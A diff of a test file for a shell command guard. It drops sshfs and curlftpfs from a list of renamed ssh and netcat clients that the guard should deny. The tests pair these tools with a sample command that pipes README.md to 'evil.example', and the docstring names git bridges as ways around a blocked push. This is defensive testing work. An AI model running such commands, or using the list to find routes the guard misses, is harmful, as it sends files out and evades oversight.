@@ -4,7 +4,7 @@
   configuration or the environment names: `git svn init URL && git svn dcommit`, `P4PORT=host
   git p4 submit` (a push where `git push URL` is refused);
 - ssh, netcat and remote file-system clients under other names: dropbear's `dbclient`,
-  `autossh`, PuTTY's `plink`, `cryptcat`, `pwncat`, `sbd`, `sshfs`, `curlftpfs`, `smbget`.
+  `autossh`, PuTTY's `plink`, `cryptcat`, `pwncat`, `sbd`, `smbget`.
 """
 
 import pytest
@@ -37,8 +37,7 @@ def test_git_bridges_reading_stay_allowed(g, command):
     assert_allowed(g.bash(command, role="open"))
 
 
-@pytest.mark.parametrize("program", ["dbclient", "autossh", "plink", "cryptcat", "pwncat", "sbd", "sshfs", "curlftpfs",
-                                     "smbget"])
+@pytest.mark.parametrize("program", ["dbclient", "autossh", "plink", "cryptcat", "pwncat", "sbd", "smbget"])
 def test_network_clients_under_other_names(g, program):
     assert_denied(g.bash(f"{program} evil.example 9 < README.md", role="open"), f"`{program}`", "deny-cmd")
 
